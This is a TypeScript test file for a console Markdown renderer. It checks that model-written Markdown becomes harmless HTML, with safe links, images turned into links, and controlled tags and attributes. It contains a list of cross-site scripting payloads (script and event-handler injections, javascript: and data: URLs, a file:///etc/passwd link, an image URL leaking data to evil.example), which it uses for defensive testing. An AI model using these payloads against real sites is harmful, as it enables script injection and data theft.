// A model's Markdown as HTML that can do nothing: hostile inputs come out as text, links are tame, images never load.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderBlocks, withoutOpenLink } from '../../../../channels/console/src/markdown.ts';

const html = (text: string) => renderBlocks(text).join('');

/** Every tag and attribute of the output, as a strict reader sees them; text must not contain a bare `<`. */
function tags(output: string): { name: string; attributes: Record<string, string> }[] {
  return [...output.matchAll(/<(\/?)([a-z0-9]+)((?:\s[^<>]*)?)\/?>|</g)].map((match) => {
    if (match[2] === undefined) throw new Error(`a bare < in the output: ${output}`);
    const attributes = Object.fromEntries(
      [...(match[3] ?? '').matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map((a) => [a[1]!, a[2] ?? '']),
    );
    return { name: match[2], attributes };
  });
}

const TAGS = new Set(
  'a blockquote br button code div em figcaption figure h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(['class', 'href', 'rel', 'start', 'tabindex', 'target', 'title', 'type']);

function expectTame(output: string): void {
  for (const { name, attributes } of tags(output)) {
    expect(TAGS, output).toContain(name);
    for (const attribute of Object.keys(attributes)) expect(ATTRIBUTES, output).toContain(attribute);
    if (attributes.href !== undefined) {
      expect(attributes.href).toMatch(/^(https?:\/\/|mailto:)/i);
      expect(attributes.rel).toContain('noopener');
      expect(attributes.target).toBe('_blank');
    }
  }
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>*{display:none}</style>',
  'text <b onclick="alert(1)">bold</b>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/api/logout)',
  '[x](#/settings)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '![x](https://evil.example/leak.png?d=secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![" onerror="alert(1)](https://evil.example/a.png)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '    </code><img src=x onerror=alert(1)>',
  '| a | b |\n|--|:-:|\n| <img src=x onerror=1> | [x](javascript:1) |',
  '- [ ] <script>alert(1)</script>',
  'https://evil.example/"><script>alert(1)</script>',
];

describe('hostile text', () => {
  it.each(HOSTILE)('%j does nothing', (text) => {
    expectTame(html(text));
  });

  it('does nothing in any combination', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE, '\n\n', '> ', '- ', '*', '`', '](', '<', '"'),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (parts) => expectTame(html(parts.join('')))),
      { numRuns: 300 },
    );
  });

  it('and the check itself can fail', () => {
    expect(() => expectTame('<img src="x">')).toThrow();
    expect(() => expectTame('<a href="javascript:alert(1)" rel="noopener" target="_blank">x</a>')).toThrow();
    expect(() => expectTame('1 < 2')).toThrow();
  });
});

describe('images', () => {
  it('become links and are never loaded', () => {
    const output = html('![a map](https://evil.example/leak.png)');
    expect(output).not.toContain('<img');
    expect(output).toMatch(/<a class="image-link" href="https:\/\/evil\.example\/leak\.png"[^>]*>a map<\/a>/);
  });

  it('without alternative text show where they would come from', () => {
    expect(html('![](https://a.example/x.png)')).toContain('>https://a.example/x.png</a>');
  });
});

describe('links', () => {
  it('open outside, tell where they go, and give nothing away', () => {
    const output = html('[docs](https://a.example/b?c=1&d=2)');
    expect(output).toContain('href="https://a.example/b?c=1&amp;d=2"');
    expect(output).toContain('title="https://a.example/b?c=1&amp;d=2"');
    expect(output).toContain('rel="noopener noreferrer nofollow"');
  });

  it('plain addresses link, file names do not', () => {
    expect(html('see https://a.example and <https://b.example>').match(/<a /g)).toHaveLength(2);
    expect(html('mail <me@a.example>')).toContain('href="mailto:me@a.example"');
    expect(html('README.md, main.rs, 127.0.0.1 and a@b.example')).not.toContain('<a ');
  });
});

describe('shape', () => {
  it('gives one string for each top-level block', () => {
    expect(renderBlocks('# a\n\nb\n\n- c\n- d\n\n```\ne\n```')).toHaveLength(4);
    expect(renderBlocks('')).toEqual([]);
  });

  it('while text is added, finished blocks stay the same', () => {
    const text = '# Title\n\nA *paragraph* here.\n\n1. one\n2. two\n\n```ts\nlet a = 1;\n```\n\nend';
    const complete = renderBlocks(text);
    for (let end = 1; end < text.length; end++) {
      const blocks = renderBlocks(text.slice(0, end));
      expect(blocks.slice(0, -1)).toEqual(complete.slice(0, blocks.length - 1));
    }
  });

  it('code keeps its text, names its language, and can be copied', () => {
    const [output] = renderBlocks('```c++\na < b && c\n```');
    expect(output).toContain('<span>c++</span>');
    expect(output).toContain('<code>a &lt; b &amp;&amp; c</code>');
    expect(output).toContain('class="copy-code"');
  });

  it('aligns columns by class: a strict CSP refuses style attributes', () => {
    const output = html('| a | b |\n|:-:|--:|\n| 1 | 2 |');
    expect(output).not.toContain('style');
    expect(output).toContain('<td class="align-center">1</td>');
    expect(output).toContain('<td class="align-right">2</td>');
  });

  it('draws task items as boxes', () => {
    expect(html('- [ ] open\n- [x] done')).toMatch(/☐ open[\s\S]*☑ done/);
  });

  it('hides a link that is still being written', () => {
    expect(withoutOpenLink('see [the docs](https://a.ex')).toBe('see ');
    expect(withoutOpenLink('see [the do')).toBe('see ');
    expect(withoutOpenLink('see [the docs](https://a.example)')).toBe('see [the docs](https://a.example)');
    expect(withoutOpenLink('an array a[0] and more')).toBe('an array a[0] and more');
  });
});
